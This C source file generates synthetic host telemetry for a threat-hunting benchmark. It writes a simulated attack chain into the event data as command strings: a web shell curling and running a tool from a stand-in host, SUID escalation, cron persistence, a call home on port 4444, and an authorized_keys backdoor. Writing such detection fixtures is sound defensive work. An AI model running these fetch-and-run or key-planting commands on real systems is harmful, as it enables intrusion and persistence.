/* gen_fleet.c - vigil-gen-fleet: fills a Vigil store with a synthetic fleet's telemetry, for the
 * hunting/provenance benchmark and tests. Each host has its daemons (sshd, cron, nginx,
 * postgres), cron jobs, SSH sessions running commands, outbound connections, inbound web
 * traffic and file writes, spread over the time span; events go through the store's own
 * ingest (batches, de-duplication), so the rate printed is the store's ingest rate.
 *
 * --stories N plants N attack stories (a web shell that downloads and runs a tool, which
 * escalates, calls home, plants cron persistence and moves over SSH to the next host, where it
 * adds an authorized key). The last line of output per story names the events a test or a
 * benchmark traces from.
 *
 *   vigil-gen-fleet --db FILE [--hosts 100] [--events 10000000] [--hours 24] [--seed 1]
 *                   [--stories 1] [--batch 5000] */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/event.h"
#include "common/util.h"
#include "server/store/store.h"

struct gen {
    struct store *st;
    uint64_t rng;
    size_t batch;
    struct event **evs;
    size_t nev;
    uint64_t total;
    struct agent_record agent;
    char hostname[64];
    char ip[32];
    uint64_t seq;
};

static uint64_t rnd(struct gen *g)
{
    g->rng ^= g->rng << 13;
    g->rng ^= g->rng >> 7;
    g->rng ^= g->rng << 17;
    return g->rng;
}

static void new_entity(struct gen *g, char out[17])
{
    uint64_t v = rnd(g);
    snprintf(out, 17, "%016" PRIx64, v);
}

static void flush(struct gen *g)
{
    if (!g->nev)
        return;
    struct ingest_result r;
    struct vg_error err = {{0}};
    if (store_ingest(g->st, &g->agent, g->hostname, g->evs, g->nev, &r, &err))
        fprintf(stderr, "ingest: %s\n", err.msg);
    g->total += r.stored;
    for (size_t i = 0; i < g->nev; i++)
        event_free(g->evs[i]);
    g->nev = 0;
}

static struct event *ev(struct gen *g, enum table_id t, const char *action, int64_t time)
{
    if (g->nev == g->batch)
        flush(g);
    struct event *e = event_new(t, action);
    e->time_ns = (uint64_t)time;
    e->seq = ++g->seq;
    snprintf(e->boot_id, sizeof(e->boot_id), "00000000-0000-4000-8000-%012" PRIx64,
             (uint64_t)g->agent.agent_num);
    g->evs[g->nev++] = e;
    return e;
}

struct proc {
    char entity[17];
    char parent[17];
    int pid, ppid, uid, euid;
    const char *exe;
    char cmdline[256];
    const char *user;
};

static void context(struct event *e, const struct proc *p)
{
    event_add_int(e, FLD_PID, p->pid);
    event_add_int(e, FLD_PPID, p->ppid);
    event_add_str(e, FLD_ENTITY_ID, p->entity);
    if (p->parent[0])
        event_add_str(e, FLD_PARENT_ENTITY_ID, p->parent);
    event_add_str(e, FLD_EXE, p->exe);
    event_add_int(e, FLD_UID, p->uid);
    event_add_int(e, FLD_EUID, p->euid);
}

static void exec_of(struct gen *g, const struct proc *p, const char *action, int64_t t,
                    const char *parent_exe)
{
    struct event *e = ev(g, TBL_PROCESS_EVENTS, action, t);
    context(e, p);
    event_add_str(e, FLD_CMDLINE, p->cmdline);
    char args[300];
    snprintf(args, sizeof(args), "[\"%.240s\"]", p->cmdline);
    event_add_str(e, FLD_ARGS, args);
    if (parent_exe)
        event_add_str(e, FLD_PARENT_EXE, parent_exe);
    event_add_int(e, FLD_GID, p->uid);
    event_add_int(e, FLD_EGID, p->uid);
    event_add_int(e, FLD_START_TIME, t);
    event_add_str(e, FLD_SENSOR, "ebpf");
}

static void spawn(struct gen *g, const struct proc *parent, struct proc *child, const char *exe,
                  const char *cmdline, int uid, int euid, int64_t t)
{
    memset(child, 0, sizeof(*child));
    new_entity(g, child->entity);
    memcpy(child->parent, parent->entity, 17);
    child->pid = 1000 + (int)(rnd(g) % 4000000);
    child->ppid = parent->pid;
    child->uid = uid;
    child->euid = euid;
    child->exe = exe;
    str_copy(child->cmdline, cmdline, sizeof(child->cmdline));
    exec_of(g, child, "exec", t, parent->exe);
}

static void exit_of(struct gen *g, const struct proc *p, int64_t t, int code)
{
    struct event *e = ev(g, TBL_PROCESS_EVENTS, "exit", t);
    context(e, p);
    event_add_int(e, FLD_EXIT_CODE, code);
    event_add_int(e, FLD_EXIT_SIGNAL, 0);
}

/* src/sport: the side that opened the connection; dst/dport: the side that answered (for an
 * accept, src is the remote client and dst our listening address). */
static void net(struct gen *g, const struct proc *p, const char *action, const char *src,
                int sport, const char *dst, int dport, int64_t t)
{
    struct event *e = ev(g, TBL_NETWORK_EVENTS, action, t);
    context(e, p);
    event_add_str(e, FLD_PROTOCOL, dport == 53 ? "udp" : "tcp");
    event_add_str(e, FLD_FAMILY, "ipv4");
    event_add_str(e, FLD_SRC_IP, src);
    event_add_int(e, FLD_SRC_PORT, sport);
    event_add_str(e, FLD_DST_IP, dst);
    event_add_int(e, FLD_DST_PORT, dport);
    event_add_str(e, FLD_DIRECTION, strcmp(action, "accept") ? "outbound" : "inbound");
    event_add_int(e, FLD_RESULT_CODE, 0);
    event_add_str(e, FLD_SENSOR, "ebpf");
}

static void file(struct gen *g, const struct proc *p, const char *action, const char *path,
                 int mode, int64_t t)
{
    struct event *e = ev(g, TBL_FILE_EVENTS, action, t);
    context(e, p);
    event_add_str(e, FLD_PATH, path);
    if (!strcmp(action, "chmod"))
        event_add_int(e, FLD_FILE_MODE, mode);
    else
        event_add_str(e, FLD_OPEN_FLAGS, "write,create,truncate");
    event_add_int(e, FLD_RESULT_CODE, 0);
    event_add_str(e, FLD_SENSOR, "ebpf");
}

static const char *const commands[][2] = {
    {"/usr/bin/ls", "ls -la /var/www"},          {"/usr/bin/grep", "grep -r error /var/log"},
    {"/usr/bin/ps", "ps aux"},                   {"/usr/bin/df", "df -h"},
    {"/usr/bin/cat", "cat /etc/os-release"},     {"/usr/bin/python3", "python3 /opt/app/job.py"},
    {"/usr/bin/tar", "tar czf /backup/www.tgz /var/www"}, {"/usr/bin/curl", "curl -s https://api.internal/health"},
    {"/usr/bin/find", "find /tmp -mtime +7 -delete"}, {"/usr/bin/systemctl", "systemctl status nginx"},
    {"/usr/bin/vim", "vim /etc/nginx/nginx.conf"}, {"/usr/bin/git", "git pull"},
};

struct host {
    struct proc init, sshd, cron, nginx, worker, postgres;
};

static void daemon_of(struct gen *g, struct proc *p, const struct proc *parent, const char *exe,
                      const char *cmdline, int pid, int uid, int64_t t)
{
    memset(p, 0, sizeof(*p));
    new_entity(g, p->entity);
    if (parent)
        memcpy(p->parent, parent->entity, 17);
    p->pid = pid;
    p->ppid = parent ? parent->pid : 0;
    p->uid = p->euid = uid;
    p->exe = exe;
    str_copy(p->cmdline, cmdline, sizeof(p->cmdline));
    exec_of(g, p, "existing", t, parent ? parent->exe : NULL);
}

/* One unit of ordinary activity at time t; returns the events it produced. */
static void ordinary(struct gen *g, struct host *h, int64_t t)
{
    unsigned kind = (unsigned)(rnd(g) % 100);
    char ip[32], cmd[256];
    if (kind < 45) {
        /* a cron job or an SSH session's command */
        const struct proc *parent = kind < 25 ? &h->cron : &h->sshd;
        struct proc shell, cmdp;
        spawn(g, parent, &shell, "/usr/bin/bash", kind < 25 ? "/bin/sh -c run-parts /etc/cron.hourly"
                                                            : "-bash",
              kind < 25 ? 0 : 1000, kind < 25 ? 0 : 1000, t);
        size_t c = rnd(g) % (sizeof(commands) / sizeof(commands[0]));
        snprintf(cmd, sizeof(cmd), "%s", commands[c][1]);
        spawn(g, &shell, &cmdp, commands[c][0], cmd, shell.uid, shell.euid, t + 1000000);
        if (!strcmp(commands[c][0], "/usr/bin/curl")) {
            snprintf(ip, sizeof(ip), "10.20.%u.%u", (unsigned)(rnd(g) % 4), (unsigned)(rnd(g) % 250) + 1);
            net(g, &cmdp, "connect", g->ip, 30000 + (int)(rnd(g) % 30000), ip, 443, t + 2000000);
        }
        exit_of(g, &cmdp, t + 5000000, 0);
        exit_of(g, &shell, t + 6000000, 0);
    } else if (kind < 70) {
        /* outbound connections of the daemons */
        const struct proc *p = kind < 60 ? &h->postgres : &h->worker;
        snprintf(ip, sizeof(ip), "10.%u.%u.%u", (unsigned)(rnd(g) % 8), (unsigned)(rnd(g) % 250),
                 (unsigned)(rnd(g) % 250) + 1);
        net(g, p, "connect", g->ip, 30000 + (int)(rnd(g) % 30000), ip,
            kind < 60 ? 5432 : (kind % 2 ? 443 : 53), t);
    } else if (kind < 85) {
        /* web clients */
        snprintf(ip, sizeof(ip), "198.18.%u.%u", (unsigned)(rnd(g) % 250),
                 (unsigned)(rnd(g) % 250) + 1);
        net(g, &h->worker, "accept", ip, 1024 + (int)(rnd(g) % 60000), g->ip, 443, t);
        file(g, &h->worker, "open_write", "/var/log/nginx/access.log", 0, t + 100000);
    } else {
        /* files */
        char path[128];
        snprintf(path, sizeof(path), "/tmp/tmp%06u", (unsigned)(rnd(g) % 1000000));
        file(g, kind < 95 ? &h->postgres : &h->cron, "open_write",
             kind < 95 ? "/var/lib/postgresql/15/main/pg_wal/000000010000" : path, 0, t);
    }
}

static void boot_host(struct gen *g, struct host *h, int64_t t)
{
    daemon_of(g, &h->init, NULL, "/usr/lib/systemd/systemd", "/sbin/init", 1, 0, t);
    daemon_of(g, &h->sshd, &h->init, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", 700, 0, t);
    daemon_of(g, &h->cron, &h->init, "/usr/sbin/cron", "/usr/sbin/cron -f", 710, 0, t);
    daemon_of(g, &h->nginx, &h->init, "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx",
              800, 0, t);
    daemon_of(g, &h->worker, &h->nginx, "/usr/sbin/nginx", "nginx: worker process", 801, 33, t);
    daemon_of(g, &h->postgres, &h->init, "/usr/lib/postgresql/15/bin/postgres",
              "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main", 900, 105, t);
}

/* The attack story on host h at time t, moving to next_ip (the next host) over SSH. The
 * second part runs on the next host, given as h2 / g2 (same store, other agent). */
static void story(struct gen *g, struct host *h, struct gen *g2, struct host *h2, int64_t t,
                  int n)
{
    struct proc s1, curl, s2, tool;
    char dir[64], path[96], cmd[256];
    snprintf(dir, sizeof(dir), "/tmp/.cache.%d", n);
    snprintf(path, sizeof(path), "%s/helper", dir);
    net(g, &h->worker, "accept", "203.0.113.66", 40100 + n, g->ip, 443, t);
    snprintf(cmd, sizeof(cmd), "/bin/sh -c curl -s -o %s http://198.51.100.9/helper; chmod +x %s",
             path, path);
    spawn(g, &h->worker, &s1, "/usr/bin/dash", cmd, 33, 33, t + 1000000);
    spawn(g, &s1, &curl, "/usr/bin/curl", "curl -s -o helper http://198.51.100.9/helper", 33, 33,
          t + 2000000);
    net(g, &curl, "connect", g->ip, 51000 + n, "198.51.100.9", 80, t + 3000000);
    file(g, &curl, "open_write", path, 0, t + 4000000);
    exit_of(g, &curl, t + 5000000, 0);
    file(g, &s1, "chmod", path, 04755, t + 6000000);
    exit_of(g, &s1, t + 7000000, 0);
    /* second request: run the tool, now SUID root */
    net(g, &h->worker, "accept", "203.0.113.66", 40200 + n, g->ip, 443, t + 60000000000ll);
    snprintf(cmd, sizeof(cmd), "/bin/sh -c %s -p", path);
    spawn(g, &h->worker, &s2, "/usr/bin/dash", cmd, 33, 33, t + 60001000000ll);
    snprintf(cmd, sizeof(cmd), "%s -p -c persist", path);
    spawn(g, &s2, &tool, path, cmd, 33, 0, t + 60002000000ll);
    file(g, &tool, "open_write", "/etc/cron.d/sync-helper", 0, t + 60003000000ll);
    net(g, &tool, "connect", g->ip, 52000 + n, "198.51.100.77", 4444, t + 60004000000ll);
    net(g, &tool, "connect", g->ip, 53000 + n, g2->ip, 22, t + 60005000000ll);
    printf("story %d host %s tool %s\n", n, g->hostname, tool.entity);
    /* on the next host: sshd accepts that connection, a shell adds a key */
    struct proc sess, sh;
    net(g2, &h2->sshd, "accept", g->ip, 53000 + n, g2->ip, 22, t + 60005100000ll);
    spawn(g2, &h2->sshd, &sess, "/usr/sbin/sshd", "sshd: root@notty", 0, 0, t + 60006000000ll);
    spawn(g2, &sess, &sh, "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
          0, 0, t + 60007000000ll);
    file(g2, &sh, "open_write", "/root/.ssh/authorized_keys", 0, t + 60008000000ll);
    exit_of(g2, &sh, t + 60009000000ll, 0);
    printf("story %d lateral host %s shell %s\n", n, g2->hostname, sh.entity);
}

int main(int argc, char **argv)
{
    const char *db = NULL;
    long hosts = 100, hours = 24, stories = 1, batch = 5000;
    long long events = 10000000, seed = 1;
    static const struct option opts[] = {
        {"db", required_argument, NULL, 'd'},      {"hosts", required_argument, NULL, 'h'},
        {"events", required_argument, NULL, 'e'},  {"hours", required_argument, NULL, 't'},
        {"seed", required_argument, NULL, 's'},    {"stories", required_argument, NULL, 'S'},
        {"batch", required_argument, NULL, 'b'},   {NULL, 0, NULL, 0},
    };
    int o;
    while ((o = getopt_long(argc, argv, "d:h:e:t:s:S:b:", opts, NULL)) != -1) {
        switch (o) {
        case 'd': db = optarg; break;
        case 'h': hosts = strtol(optarg, NULL, 10); break;
        case 'e': events = strtoll(optarg, NULL, 10); break;
        case 't': hours = strtol(optarg, NULL, 10); break;
        case 's': seed = strtoll(optarg, NULL, 10); break;
        case 'S': stories = strtol(optarg, NULL, 10); break;
        case 'b': batch = strtol(optarg, NULL, 10); break;
        default: return 2;
        }
    }
    if (!db || hosts < 2 || events < hosts * 10 || hours < 1 || batch < 1 || stories < 0 ||
        stories > hosts / 2) {
        fprintf(stderr, "usage: vigil-gen-fleet --db FILE [--hosts N>=2] [--events N] "
                        "[--hours N] [--seed N] [--stories N<=hosts/2] [--batch N]\n");
        return 2;
    }
    struct store *st;
    struct vg_error err = {{0}};
    if (store_open(db, &st, &err)) {
        fprintf(stderr, "%s\n", err.msg);
        return 1;
    }
    struct gen *gs = calloc((size_t)hosts, sizeof(*gs));
    struct host *hs = calloc((size_t)hosts, sizeof(*hs));
    int64_t now = (int64_t)time_now_ns();
    int64_t span = (int64_t)hours * 3600ll * 1000000000ll, start = now - span;
    for (long i = 0; i < hosts; i++) {
        struct gen *g = &gs[i];
        g->st = st;
        g->rng = (uint64_t)(seed * 1000003 + i * 7919 + 1) | 1;
        g->batch = (size_t)batch;
        g->evs = calloc((size_t)batch, sizeof(*g->evs));
        snprintf(g->hostname, sizeof(g->hostname), "host%03ld", i);
        snprintf(g->ip, sizeof(g->ip), "10.0.%ld.%ld", i / 250, i % 250 + 1);
        char id[48], fp[80];
        snprintf(id, sizeof(id), "00000000-0000-4000-8000-%012lx", i + 1);
        snprintf(fp, sizeof(fp), "%064lx", i + 1);
        store_agent_register(st, id, g->hostname, id, "Debian GNU/Linux 12", "6.1.0", "x86_64",
                             fp, "1", 0, g->ip, NULL);
        store_agent_get(st, id, &g->agent);
        boot_host(g, &hs[i], start);
    }
    uint64_t t0 = time_mono_ns();
    long long per_host = events / hosts;
    for (long i = 0; i < hosts; i++) {
        struct gen *g = &gs[i];
        int64_t step = span / (per_host / 3 + 1);
        for (int64_t t = start + step; g->seq < (uint64_t)per_host; t += step)
            ordinary(g, &hs[i], t);
        if (i < stories)
            story(g, &hs[i], &gs[i + hosts / 2], &hs[i + hosts / 2], now - span / 2 + i * 1000000000ll,
                  (int)i);
        flush(g);
    }
    for (long i = 0; i < hosts; i++)
        flush(&gs[i]);
    double secs = (double)(time_mono_ns() - t0) / 1e9;
    uint64_t total = 0;
    for (long i = 0; i < hosts; i++)
        total += gs[i].total;
    printf("ingested %" PRIu64 " events for %ld hosts in %.1f s: %.0f events/s\n", total, hosts,
           secs, (double)total / secs);
    for (long i = 0; i < hosts; i++)
        free(gs[i].evs);
    free(gs);
    free(hs);
    store_close(st);
    return 0;
}
